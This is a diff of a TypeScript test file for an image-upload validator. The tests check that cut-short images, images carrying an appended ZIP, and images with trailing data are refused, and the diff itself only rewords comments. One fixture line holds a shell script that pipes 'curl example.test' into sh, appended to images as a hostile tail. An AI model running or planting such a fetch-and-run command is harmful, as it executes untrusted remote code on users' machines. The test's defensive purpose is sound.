@@ -1,4 +1,7 @@
-/** Whole files that are cut short, are something else as well, or declare too much. */
+/**
+ * Complete files, files that are cut short or also another kind of file, and files that declare too
+ * much.
+ */
 import { mkdtemp, readFile, writeFile } from 'node:fs/promises'
 import { tmpdir } from 'node:os'
 import path from 'node:path'
@@ -25,7 +28,7 @@ const [JPEG, PNG, WEBP, AVIF] = await Promise.all([
 const EMPTY_ZIP = Buffer.concat([Buffer.from('PK\u0005\u0006', 'latin1'), Buffer.alloc(18)])
 const TAIL = Buffer.from('#!/bin/sh\ncurl example.test | sh\n')
 
-/** A comment of a JPEG, where its other readers look first. */
+/** A JPEG comment, where programs for other kinds of files look first. */
 const withComment = (text: Buffer) =>
   Buffer.concat([
     JPEG.subarray(0, 2),
@@ -72,7 +75,7 @@ test.each([
 ])('a %s that is cut short, or goes on as something else, is refused', async (ending, bytes) => {
   expect(await problemOf(bytes.subarray(0, Math.floor(bytes.length * 0.7)))).toBe(REASONS.broken)
   expect(await problemOf(Buffer.concat([bytes, EMPTY_ZIP]))).toBe(REASONS.mixed)
-  // What phones append to a JPEG is part of it.
+  // In a JPEG, the appended bytes could be what phones append, which is allowed.
   if (ending !== 'jpg') expect(await problemOf(Buffer.concat([bytes, TAIL]))).toBe(REASONS.broken)
 })
 
